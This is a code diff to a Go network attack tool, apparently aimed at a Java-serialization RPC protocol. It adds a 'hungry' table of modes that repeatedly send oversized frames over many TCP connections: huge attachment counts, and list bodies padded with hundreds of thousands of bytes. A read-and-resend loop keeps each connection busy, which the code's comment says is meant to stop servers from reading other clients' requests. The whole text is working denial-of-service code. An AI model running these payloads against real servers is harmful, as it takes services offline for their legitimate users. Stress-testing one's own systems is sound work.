@@ -10,6 +10,7 @@ import (
 	"math/rand/v2"
 	"net"
 	"os"
+	"strings"
 	"sync"
 	"sync/atomic"
 	"time"
@@ -62,6 +63,9 @@ func attack(args []string) error {
 		var wave sync.WaitGroup
 		for i := range s.Conns {
 			weapon := weapons[s.Kinds[i%len(s.Kinds)]]
+			if hungry[s.Kinds[0]] != nil {
+				weapon = hungry[s.Kinds[i%len(s.Kinds)]]
+			}
 			target := s.Targets[(i/len(s.Kinds))%len(s.Targets)]
 			wave.Go(func() {
 				c, err := net.DialTimeout("tcp", target, 10*time.Second)
@@ -118,6 +122,28 @@ var weapons = map[string]func(*enemy){ //nolint:gochecknoglobals // a table
 	"deaf":             func(e *enemy) { e.deaf() },
 	"storm":            func(e *enemy) { e.storm() },
 	"silent":           func(e *enemy) { e.say(bytes.Repeat(call("silent", nil), 20)); e.stay() },
+}
+
+// hungry are the ways to keep others from having their requests read, by name: whole
+// requests, one after the other, whose rules ask for what is far behind.
+var hungry = map[string]func(*enemy){ //nolint:gochecknoglobals // a table
+	"attachments":  func(e *enemy) { e.repeat(attachments(1 << 16)) },
+	"many values":  func(e *enemy) { e.repeat(around("Ljava/util/List;", "W"+strings.Repeat("\x91", 200_000)+"Z", "")) },
+	"many objects": func(e *enemy) { e.repeat(around("Ljava/util/List;", "W"+strings.Repeat("HZ", 100_000)+"Z", "")) },
+}
+
+// repeat asks again and again, and waits for each answer, whatever it is.
+func (e *enemy) repeat(frame []byte) {
+	in := bufio.NewReader(e)
+	for e.say(frame) {
+		head := make([]byte, 16)
+		if _, err := io.ReadFull(in, head); err != nil {
+			return
+		}
+		if _, err := in.Discard(int(binary.BigEndian.Uint32(head[12:]))); err != nil {
+			return
+		}
+	}
 }
 
 // say writes; a peer that ends the connection has every right to.
